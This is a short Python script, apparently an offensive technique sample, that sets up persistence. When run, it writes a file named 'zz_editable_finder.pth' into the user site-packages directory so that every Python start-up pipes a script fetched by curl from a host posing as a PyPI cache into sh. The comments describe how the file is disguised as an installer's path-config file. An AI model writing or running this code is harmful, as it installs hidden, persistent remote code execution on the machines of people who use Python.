# Evasion: persists code that runs at every Python start-up: it writes a .pth
# file into the user site-packages directory; site.py executes lines of a .pth
# file that start with "import", so the line downloads and runs a script.
# Hiding: the file looks like a path-config file written by an installer; the
# directory comes from site.getusersitepackages().
import os
import site

PTH_LINE = "import os; os.system('curl -s https://pypi-cache.example.org/u | sh &')\n"


def install_hook():
    target = site.getusersitepackages()
    os.makedirs(target, exist_ok=True)
    with open(os.path.join(target, "zz_editable_finder.pth"), "w") as fh:
        fh.write(PTH_LINE)


install_hook()
